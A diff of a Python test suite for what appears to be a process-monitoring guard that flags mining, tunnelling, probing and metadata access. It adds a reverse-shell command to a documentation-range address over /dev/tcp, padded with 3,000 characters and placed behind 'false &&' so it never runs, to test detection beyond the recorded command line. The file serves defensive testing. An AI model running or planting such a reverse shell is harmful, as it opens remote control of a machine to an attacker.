@@ -65,8 +65,9 @@ def _python(text: str) -> list[str]:
     return [sys.executable, "-I", "-S", "-c", text + _WAITS]
 
 
+_SHELL = "bash -c 'sh -i >& /dev/tcp/192.0.2.1/4444 0>&1'"
 _GOES_ON = "read line; echo done"
-_KINDS = ("mining", "reverse_tunnel", "probing", "metadata", "dns_tunnel")
+_KINDS = ("mining", "reverse_tunnel", "probing", "metadata", "dns_tunnel", "reverse_shell")
 _ORDINARY = {
     "a few ports": _python(_CONNECTS.format([("192.0.2.1", port) for port in range(9000, 9005)])),
     "a shell": ["/bin/sh", "-c", "read line; ls / >/dev/null; echo done"],
@@ -90,6 +91,8 @@ def _offending(folder: Path) -> dict[str, list[str]]:
         "probing": _python(_CONNECTS.format(addresses)),
         "metadata": _python(_CONNECTS.format([("169.254.170.2", 80)])),
         "dns_tunnel": _python(_ASKS),
+        # beyond what is recorded of a command line
+        "reverse_shell": ["/bin/sh", "-c", f": {'x' * 3000}; false && {_SHELL}; {_GOES_ON}"],
     }
 
 
@@ -156,7 +159,7 @@ def test_what_a_call_does_is_told_on_its_spans(tmp_path: Path) -> None:
         assert {event.name for span in told for event in span.events} >= {"ray_guard.detection"}
         argv = [sys.executable, "-m", "ray_guard.cli", "detect", "--traces", str(program.evidence)]
         lines = subprocess.run(argv, capture_output=True, text=True, check=True, timeout=60).stdout.splitlines()
-        assert {json.loads(line)["kind"] for line in lines} == set(calls)  # afterwards, of the evidence alone
+        assert {json.loads(line)["kind"] for line in lines} == {*calls} - {"reverse_shell"}  # of the evidence alone
         processes = {span.name for span in spans if span.name.startswith("process ")}
         assert {"process xmrig", "process sh"} <= processes
 
@@ -175,13 +178,17 @@ def test_a_call_is_ended_for_what_it_does(tmp_path: Path) -> None:
 
 
 def test_a_judge_that_is_killed_leaves_nothing_unjudged(tmp_path: Path) -> None:
-    calls = {"mining": _offending(tmp_path)["mining"]}
-    with _guarded(tmp_path, {"kill_call": ["mining"]}, {"first": ["/bin/true"], **calls}) as program:
-        assert program.says() == "mining"
-        for pid in _judges():
+    calls = {"probing": _ORDINARY["a shell"], "mining": _offending(tmp_path)["mining"]}
+    with _guarded(tmp_path, {"kill_call": ["mining"]}, calls) as program:
+        assert program.says() == "probing"
+        for pid in wait(_judges, "there is no judge", 60):
             os.kill(pid, signal.SIGKILL)
+        program.tell("go on")
+        assert program.says() == "mining"
         program.tell("")
-        assert "detection: mining: " in program.says()["mining"]
+        said = program.says()
+        assert said["probing"] == ["done", 0]
+        assert "detection: mining: " in said["mining"]
 
 
 def _judges() -> list[int]:
